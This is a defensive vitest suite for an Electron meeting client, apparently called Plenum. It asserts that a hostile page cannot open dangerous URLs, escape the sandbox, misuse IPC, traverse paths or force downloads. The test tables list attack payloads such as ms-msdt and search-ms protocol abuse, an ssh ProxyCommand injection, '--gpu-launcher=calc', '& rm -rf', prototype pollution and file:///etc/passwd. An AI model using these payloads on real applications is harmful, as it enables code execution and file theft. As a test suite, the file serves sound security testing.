// A hostile page in the desktop program: a server that was taken over, or a script that got into its page. Everything here is tried
// over the built preload, the real guards and the real gate, and everything fails.
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type CallName, miniWindowName } from '../../client/ipc.ts';
import { pagePartition } from '../../client/main/windows/page-preferences.ts';
import { planTray } from '../../client/main/tray/plan-tray.ts';
import { programTexts } from '../../client/main/texts/program-texts.ts';
import { buildPreload } from '../helpers/electron-stand-in/load-preload.ts';
import type { StandInContents } from '../helpers/electron-stand-in/stand-in-contents.ts';
import { type OpenedShell, openShellOverStandIn, origin, ownPage } from './desktop-shell.ts';

const badArguments = { ok: false, error: { code: 'bad-arguments' } };
const notHere = { ok: false, error: { code: 'not-permitted-here' } };

let preload: string;
let pages: string;
let opened: OpenedShell;
let page: StandInContents;

beforeAll(async () => {
  preload = await buildPreload();
  pages = join(await mkdtemp(join(tmpdir(), 'plenum-pages-')), 'pages');
  await mkdir(join(pages, 'assets'), { recursive: true });
  await writeFile(join(pages, 'connect.html'), '<!doctype html>');
  await writeFile(join(pages, 'notes.md'), 'not for pages');
  await writeFile(join(pages, '..', 'secret.js'), 'secret');
  await symlink('/etc', join(pages, 'etc'));
});
afterAll(() => rm(join(pages, '..'), { recursive: true, force: true }));
beforeEach(async () => {
  opened = openShellOverStandIn({ preload, pages });
  page = await opened.open('meeting');
});

/** Windows and programs that exist after something was tried. */
function opensNothing(): void {
  expect(opened.standIn.shell.opened).toEqual([]);
  expect(opened.standIn.windows).toHaveLength(1);
}

describe('an address for the operating system', () => {
  test.each([
    ['a file of the person', 'file:///etc/passwd'],
    ['a program of the person', 'file:///C:/Windows/System32/calc.exe'],
    ['a share on the network, which would be sent their password', 'smb://evil.example/share'],
    ['a share on the network as Windows writes it', '\\\\evil.example\\share\\run.exe'],
    ['a share on the network as a file', 'file://evil.example/share/run.exe'],
    ['a share on the network with slashes', '//evil.example/share'],
    ['a script', 'javascript:alert(1)'],
    ['a script of old', 'vbscript:msgbox(1)'],
    ['a page inside of an address', 'data:text/html,<script>alert(1)</script>'],
    ['a made document', `blob:${origin}/1-2-3`],
    ['the support tool of Windows', 'ms-msdt:/id PCWDiagnostic /skip force'],
    ['the search of Windows', 'search-ms:query=x&crumb=location:%5C%5Cevil.example'],
    ['the installer of Windows', 'ms-appinstaller:?source=https://evil.example/a.msix'],
    ['a text program of Windows', 'ms-word:ofe|u|https://evil.example/a.docm'],
    ['a terminal', 'ssh://-oProxyCommand=calc@evil.example'],
    ['a page of the browser itself', 'chrome://settings'],
    ['the developer tools', 'devtools://devtools/bundled/inspector.html'],
    ['a page of the program', ownPage('connect')],
    ['a link of the program', 'plenum://evil.example/12345'],
    ['the source of a page', 'view-source:https://evil.example'],
    ['a file under another name', 'filesystem:https://evil.example/temporary/a.exe'],
    ['a page without TLS', 'http://evil.example/'],
    ['a scheme in mixed case', 'JaVaScRiPt:alert(1)'],
    ['a file in mixed case', 'FiLe:///etc/passwd'],
    ['an encoded scheme', 'file%3A///etc/passwd'],
    ['a blank before the scheme', ' https://evil.example/'],
    ['a line break inside of the scheme', 'java\nscript:alert(1)'],
    ['a line break inside of a good scheme', 'ht\ntps://evil.example/'],
    ['a tab before the scheme', '\tfile:///etc/passwd'],
    ['a zero byte', 'https://evil.example/\0.exe'],
    ['a backslash for a slash', 'https:\\\\evil.example\\run'],
    ['a name and a password', 'https://meet.example.org:secret@evil.example/'],
    ['a word of a command line behind a link', 'https://evil.example/ --gpu-launcher=calc'],
    ['a quotation mark that ends a command', 'https://evil.example/"&calc&"\n'],
    ['a letter with a file of the person', 'mailto:a@evil.example?attach=/etc/passwd'],
    ['a letter with a file under its other name', 'mailto:a@evil.example?ATTACHMENT=/etc/passwd'],
    ['an address without end', `https://evil.example/${'a'.repeat(5000)}`],
    ['no address at all', 'run.exe'],
  ])('%s is not opened', (_what, url) => {
    expect(page.page.open(url)).toBe(false);
    expect(page.page.open(url, miniWindowName)).toBe(false);
    opensNothing();
  });

  test('a hundred links at once are one', () => {
    for (let link = 0; link < 100; link += 1) page.page.open(`https://evil.example/${link}`);
    expect(opened.standIn.shell.opened).toEqual(['https://evil.example/0']);
    expect(opened.standIn.windows).toHaveLength(1);
  });

  test('a link to a page is opened outside, and never inside', () => {
    expect(page.page.open('https://docs.example/')).toBe(false);
    expect(opened.standIn.shell.opened).toEqual(['https://docs.example/']);
    expect(opened.standIn.windows).toHaveLength(1);
  });
});

describe('a window', () => {
  test.each([
    ['with no name', 'about:blank', '', ''],
    ['with another name', 'about:blank', 'plenum-mini2', ''],
    ["with the mini window's name in capitals", 'about:blank', 'PLENUM-MINI', ''],
    ["with the mini window's name and another page", `${origin}/`, miniWindowName, 'width=320'],
    ["with the mini window's name and a fragment", 'about:blank#x', miniWindowName, ''],
    ['with a document from within its opener', 'about:srcdoc', miniWindowName, ''],
    ['that asks for Node', 'about:blank', miniWindowName, 'nodeIntegration=yes'],
    ['that asks to leave the sandbox', 'about:blank', miniWindowName, 'width=320,sandbox=no'],
    ['that brings a preload', 'about:blank', miniWindowName, 'preload=//evil.example/share/x.js'],
    ['that asks for a shared world', 'about:blank', miniWindowName, 'contextIsolation=no,nodeIntegration=1'],
    ['that asks for rights in one word', 'about:blank', miniWindowName, 'webPreferences=sandbox=no'],
    [
      'without a frame, over the whole screen',
      'about:blank',
      miniWindowName,
      'frame=no,fullscreen=yes,kiosk=yes',
    ],
    ['that nobody can see', 'about:blank', miniWindowName, 'show=no,opacity=0'],
    ['cut off from its opener', 'about:blank', miniWindowName, 'noopener'],
    ['that hides where it comes from', 'about:blank', miniWindowName, 'noreferrer,width=100'],
    ['of a size without end', 'about:blank', miniWindowName, 'width=99999999'],
  ])('%s is not opened', (_what, url, name, features) => {
    expect(page.page.open(url, name, features)).toBe(false);
    expect(opened.standIn.windows).toHaveLength(1);
  });

  test('of another page of the main window is not opened', async () => {
    await opened.open('connect');
    expect(page.page.open('about:blank', miniWindowName)).toBe(false);
    expect(page.page.open('https://evil.example/')).toBe(false);
    opensNothing();
  });

  test('of the mini window is not opened, and the mini window goes nowhere', () => {
    const mini = openMini();
    expect(mini.page.open('about:blank', miniWindowName)).toBe(false);
    expect(mini.page.open('https://evil.example/')).toBe(false);
    expect(mini.page.goTo(`${origin}/`)).toBe(false);
    expect(opened.standIn.shell.opened).toEqual([]);
    expect(opened.standIn.windows).toHaveLength(2);
  });
});

function openMini(): StandInContents {
  expect(page.page.open('about:blank', miniWindowName, 'popup,width=320,height=220')).toBe(true);
  const mini = opened.standIn.windows[1]?.webContents;
  if (!mini) throw new Error('There is no mini window.');
  return mini;
}

describe('the page', () => {
  test.each([
    ['a file of the person', 'file:///etc/passwd'],
    ['a file that is dropped on it', 'file:///home/ada/Downloads/page.html'],
    ["the program's own page", ownPage('connect')],
    ["the program's own page with a reason", `${ownPage('connect')}?reason=page-crashed`],
    ['another server', 'https://evil.example/'],
    ['a server whose name only begins alike', 'https://meet.example.org.evil.example/'],
    ['a server whose name only ends alike', 'https://evilmeet.example.org/'],
    ["the server's name as somebody's user name", 'https://meet.example.org@evil.example/'],
    ['the server with a user name', 'https://ada@meet.example.org/'],
    ["the server's name with a dot behind it", 'https://meet.example.org./'],
    ['another port of the server', 'https://meet.example.org:8443/'],
    ['the server without TLS', 'http://meet.example.org/'],
    ['a name that looks alike in another script', 'https://mееt.example.org/'],
    ['a name that looks alike as it is written for machines', 'https://xn--mt-7lca.example.org/'],
    ['a page inside of an address', 'data:text/html,x'],
    ['a made document', `blob:${origin}/1-2-3`],
    ['a script', 'javascript:alert(1)'],
    ['an empty document', 'about:blank'],
    ['a page of the browser itself', 'chrome://gpu'],
    ['a letter', 'mailto:a@evil.example'],
    ['nothing that is an address', 'https://'],
  ])('does not go to %s, nor is it sent there', (_what, url) => {
    expect(page.page.goTo(url)).toBe(false);
    expect(page.page.redirect(url)).toBe(false);
    expect(page.page.frameGoesTo(url)).toBe(false);
    expect(page.getURL()).toBe(`${origin}/`);
    opensNothing();
  });

  test('loads no page of another server into a frame, nor one of its own', () => {
    expect(page.page.frameGoesTo('https://evil.example/')).toBe(false);
    expect(page.page.frameGoesTo(`${origin}/`)).toBe(false);
  });

  test('gets no page within a page', () => {
    expect(
      page.page.attachWebview({ preload: '/x.js', nodeIntegration: true }, 'https://evil.example/'),
    ).toBe(false);
    expect(page.preferences.webviewTag).toBe(false);
  });
});

describe('a call with', () => {
  const circle: Record<string, unknown> = { everywhere: true };
  circle['circle'] = circle;
  const deep = Array.from({ length: 500 }).reduce<unknown>((inner) => ({ inner }), {});
  const shared = JSON.parse('{"everywhere":true,"__proto__":{"isAdmin":true}}') as unknown;
  const built = JSON.parse('{"everywhere":true,"constructor":{"prototype":{"isAdmin":true}}}') as unknown;
  test.each<[string, unknown]>([
    ['a field named __proto__', shared],
    ['a field named constructor', built],
    ['such a field deep inside', { everywhere: true, more: [JSON.parse('{"__proto__":{}}')] }],
    ['a circle', circle],
    ['values that lie 500 deep', deep],
    ['a text of a megabyte', { everywhere: true, more: 'x'.repeat(1 << 20) }],
    ['a list of a hundred thousand', { everywhere: true, more: Array.from({ length: 100_000 }, () => 0) }],
    ['a list that is only long', { everywhere: true, more: Object.assign([], { length: 2 ** 31 }) }],
    ['a buffer', { everywhere: true, more: new ArrayBuffer(8) }],
    ['a map', new Map([['everywhere', true]])],
    ['a date', { everywhere: true, more: new Date(0) }],
    ['an error', new Error('everywhere')],
    ['a boolean that is an object', { everywhere: Object(true) as unknown }],
    ['a number that is none', { everywhere: true, more: Number.NaN }],
    ['a number too big for numbers', { everywhere: 2n }],
    ['the word for true', { everywhere: 'true' }],
  ])('%s does not reach the program', async (_what, input) => {
    expect(await page.page.invoke('session:sign-out', input)).toEqual(badArguments);
    expect(opened.heard).toEqual([]);
    expect(Object.hasOwn(Object.prototype, 'isAdmin')).toBe(false);
  });

  test.each<[string, unknown]>([
    ['a function', { everywhere: () => true }],
    ['a symbol', { everywhere: Symbol('true') }],
    [
      'a getter that throws',
      Object.defineProperty({}, 'everywhere', { enumerable: true, get: () => decodeURI('%') }),
    ],
  ])('%s does not even leave the page', async (_what, input) => {
    await expect(async () => page.page.invoke('session:sign-out', input)).rejects.toThrow();
    expect(opened.heard).toEqual([]);
  });

  test('a getter that changes its mind is read once', async () => {
    let reads = 0;
    const input = Object.defineProperty({}, 'everywhere', {
      enumerable: true,
      get: () => (reads += 1) === 1,
    });
    await page.page.bridge.calls['session:sign-out'](input as { everywhere: boolean });
    expect(opened.heard).toEqual([['session:sign-out', { everywhere: true }]]);
  });

  test('another name than those of the contract is not heard', async () => {
    for (const name of [
      '__proto__',
      'constructor',
      'toString',
      'session:token',
      'shell:open',
      'ELECTRON_BROWSER_REQUIRE',
    ])
      await expect(page.page.invoke(name, {})).rejects.toThrow('No handler');
  });
});

describe('a sender that', () => {
  test.each<[string, () => unknown]>([
    ['is a frame of the server itself', () => page.page.addFrame(`${origin}/`)],
    ['is a frame that its page has written', () => page.page.addFrame('about:srcdoc', origin)],
    ['is a frame of another server', () => page.page.addFrame('https://evil.example/')],
    ["is a frame with the program's own page", () => page.page.addFrame(ownPage('connect'))],
    ['was taken out of its page', () => Object.assign(page.page.addFrame(`${origin}/`), { detached: true })],
  ])('%s is refused', async (_what, makeFrame) => {
    const frame = makeFrame() as ReturnType<StandInContents['page']['addFrame']>;
    expect(await page.page.invokeFrom(frame, 'session:ticket', {})).toEqual(notHere);
    expect(await page.page.invokeFrom(frame, 'servers:list', {})).toEqual(notHere);
  });

  test.each([
    ['another server', 'https://evil.example/'],
    ['a server whose name begins alike', 'https://meet.example.org.evil.example/'],
    ['another port', 'https://meet.example.org:8443/'],
    ['the server without TLS', 'http://meet.example.org/'],
    ['an empty document', 'about:blank'],
    ['a page inside of an address', 'data:text/html,x'],
    ['a file', 'file:///etc/passwd'],
    ['the page for an error', 'chrome-error://chromewebdata/'],
  ])('has become %s is refused', async (_what, url) => {
    page.commit(url);
    expect(await page.page.invoke('session:ticket', {})).toEqual(notHere);
    expect(await page.page.invoke('session:restore', {})).toEqual(notHere);
  });

  test('stands at the right address without its origin is refused', async () => {
    for (const other of ['null', 'https://evil.example']) {
      page.commit(`${origin}/`, other);
      expect(await page.page.invoke('session:ticket', {})).toEqual(notHere);
    }
  });

  test('is a page that is just being taken away is refused', async () => {
    page.mainFrame.end();
    expect(await page.page.invoke('session:ticket', {})).toEqual(notHere);
  });

  test('is the mini window has no bridge and is refused', async () => {
    const mini = openMini();
    expect(mini.page.hasBridge).toBe(false);
    expect(await mini.page.invoke('session:ticket', {})).toEqual(notHere);
  });

  test('is the picker chooses a source and nothing else', async () => {
    const picker = await opened.open('picker');
    for (const name of [
      'session:ticket',
      'servers:list',
      'desktop:change',
      'badge:stop',
    ] satisfies CallName[])
      expect(await picker.page.invoke(name, {})).toEqual(notHere);
  });

  test('is the meeting does not choose what is shared, nor trust a certificate', async () => {
    const trust = { origin: 'https://evil.example', fingerprint: '0'.repeat(64) };
    expect(await page.page.invoke('picker:choose', { id: 'screen:0:0', sound: true })).toEqual(notHere);
    expect(await page.page.invoke('servers:trust', trust)).toEqual(notHere);
  });
});

describe('an event', () => {
  test.each(['__proto__', 'constructor', 'ELECTRON_RENDERER', 'session:token', ''])(
    'named %j is not listened to',
    (name) => {
      const on = page.page.bridge.on as (name: string, listener: () => void) => unknown;
      expect(() => on(name, () => undefined)).toThrow(TypeError);
    },
  );

  test('with something else than a listener is not listened to', () => {
    const on = page.page.bridge.on as (name: string, listener: unknown) => unknown;
    for (const listener of [undefined, null, 'alert(1)', {}])
      expect(() => on('machine:woke', listener)).toThrow(TypeError);
  });

  test("hands over no sender, and the page's own copy of the bridge cannot be changed", () => {
    const { bridge } = page.page;
    expect(Object.isFrozen(bridge) && Object.isFrozen(bridge.calls)).toBe(true);
    let handedOver: readonly unknown[] = [];
    bridge.on('machine:woke', (...event) => void (handedOver = event));
    opened.shell.window.tell('machine:woke', {});
    expect(handedOver).toEqual([{}]);
  });
});

describe('names that are made to be shown', () => {
  const call = { number: '12345', microphone: 'on', camera: 'off', share: 'off' };
  test.each<[string, object]>([
    ['a room number with a line break', { number: '12345\nQuit' }],
    ['a room number that is markup', { number: '<b>1</b>' }],
    ['a room number with five digits of another script', { number: '１２３４５' }],
    ['a room number that is a number', { number: 12_345 }],
    ['a room number with more behind it', { number: '12345 & rm -rf' }],
    ['a switch with a state of its own', { microphone: 'on"; quit' }],
  ])('%s does not reach tray, menu or title', async (_what, fields) => {
    expect(await page.page.invoke('call:tell', { call: { ...call, ...fields } })).toEqual(badArguments);
    expect(opened.heard).toEqual([]);
  });

  test('a nickname that comes along with the call is dropped, and no tray shows it', async () => {
    await page.page.invoke('call:tell', { call: { ...call, nickname: '\u202Eevil' } });
    expect(opened.heard).toEqual([['call:tell', { call }]]);
    const texts = programTexts('en').tray;
    const plan = planTray({ connected: true, call: { ...call, number: '12345' } as never, texts });
    expect(JSON.stringify(plan)).not.toContain('evil');
  });

  test('a title of the page does not become the title of its window', () => {
    let prevented = false;
    opened
      .mainWindow()
      .emit('page-title-updated', { preventDefault: () => void (prevented = true) }, 'Your bank');
    expect(prevented).toBe(true);
  });
});

describe('an address of the program’s own pages', () => {
  test.each([
    ['above their folder', 'plenum-shell://pages/../secret.js'],
    ['above their folder, encoded', 'plenum-shell://pages/%2e%2e/secret.js'],
    ['above their folder, encoded slash', 'plenum-shell://pages/..%2fsecret.js'],
    ['above their folder, encoded twice', 'plenum-shell://pages/%252e%252e%252fsecret.js'],
    ['above their folder, with a backslash', 'plenum-shell://pages/..\\secret.js'],
    ['above their folder, from within', 'plenum-shell://pages/assets/../../secret.js'],
    ['above their folder, with more dots', 'plenum-shell://pages/....//secret.js'],
    ['from the root', 'plenum-shell://pages//etc/passwd'],
    ['through a link', 'plenum-shell://pages/etc/passwd'],
    ['of another host', 'plenum-shell://secret.js/'],
    ['of a host above', 'plenum-shell://../secret.js'],
    ['of another kind', 'plenum-shell://pages/notes.md'],
    ['of a hidden file', 'plenum-shell://pages/.env.js'],
    ['with a zero byte', 'plenum-shell://pages/connect.html%00.js'],
    ['that is a folder', 'plenum-shell://pages/assets/'],
  ])('%s finds nothing', async (_what, url) => {
    const serve = opened.standIn.session(pagePartition).protocol.handlers.get('plenum-shell');
    const request = { url, method: 'GET' } as Request;
    const response = await serve?.(request);
    expect(response?.status).toBe(404);
    expect(await response?.text()).toBe('');
  });
});

describe('a permission', () => {
  test.each([
    'geolocation',
    'usb',
    'hid',
    'serial',
    'midi',
    'midiSysex',
    'clipboard-read',
    'deprecated-sync-clipboard-read',
    'fileSystem',
    'openExternal',
    'idle-detection',
    'pointerLock',
    'keyboardLock',
    'window-management',
    'storage-access',
    'mediaKeySystem',
    'local-fonts',
    'background-sync',
    'payment-handler',
    'unknown',
    '__proto__',
  ])('%s is not granted', async (permission) => {
    expect(await page.page.ask({ permission })).toBe(false);
  });

  test.each(['media', 'display-capture', 'notifications', 'fullscreen'])(
    '%s is granted to the meeting, and to no frame, other origin or other page',
    async (permission) => {
      expect(await page.page.ask({ permission })).toBe(true);
      expect(await page.page.ask({ permission, isMainFrame: false })).toBe(false);
      expect(await page.page.ask({ permission, url: 'https://evil.example/' })).toBe(false);
      expect(await page.page.ask({ permission, url: `blob:${origin}/1` })).toBe(false);
      const mini = openMini();
      expect(await mini.page.ask({ permission, url: `${origin}/` })).toBe(false);
      expect(await (await opened.open('picker')).page.ask({ permission })).toBe(false);
      expect(await (await opened.open('connect')).page.ask({ permission })).toBe(false);
    },
  );

  test('is not granted to a worker without a page', async () => {
    const session = opened.standIn.session(pagePartition);
    expect(await session.decide({ contents: null, permission: 'notifications', url: `${origin}/` })).toBe(
      false,
    );
  });

  test('of a device is not granted', () => {
    const { deviceHandler } = opened.standIn.session(pagePartition);
    for (const deviceType of ['usb', 'hid', 'serial'] as const)
      expect(deviceHandler?.({ deviceType, origin, device: {} as never })).toBe(false);
  });
});

describe('a download', () => {
  const blob = `blob:${origin}/1-2-3`;
  test.each([
    ['a program', blob, 'setup.exe'],
    ['a program behind a picture', blob, 'picture.png.exe'],
    ['a program that is written from right to left', blob, 'picture\u202Egnp.exe'],
    ['a picture that is written from right to left', blob, 'exe\u202Egnp.png'],
    ['a script', blob, 'run.sh'],
    ['a page', blob, 'page.html'],
    ['a starter', blob, 'Plenum.desktop'],
    ['a name without a kind', blob, 'autorun'],
    ['a hidden file', blob, '.png'],
    ['a name that leads elsewhere', blob, '../../.config/autostart/a.txt'],
    ['a name that leads elsewhere on Windows', blob, '..\\a.txt'],
    ['a second stream of a file', blob, 'a.exe:b.txt'],
    ['a file of another server', 'https://evil.example/a.png', 'a.png'],
    ['a file of the server', `${origin}/a.png`, 'a.png'],
    ['a document made by another origin', 'blob:https://evil.example/1', 'a.png'],
    ['a file of the person', 'file:///etc/passwd', 'passwd.txt'],
  ])('%s is not taken', (_what, url, filename) => {
    expect(opened.standIn.session(pagePartition).download(page, { url, filename }).prevented).toBe(true);
  });

  test('of any kind is not taken from another page', async () => {
    const mini = openMini();
    const session = opened.standIn.session(pagePartition);
    expect(session.download(mini, { url: blob, filename: 'a.png' }).prevented).toBe(true);
    expect(session.download(page, { url: blob, filename: 'a.png' }).prevented).toBe(false);
    await opened.open('connect');
    expect(session.download(page, { url: blob, filename: 'a.png' }).prevented).toBe(true);
  });
});
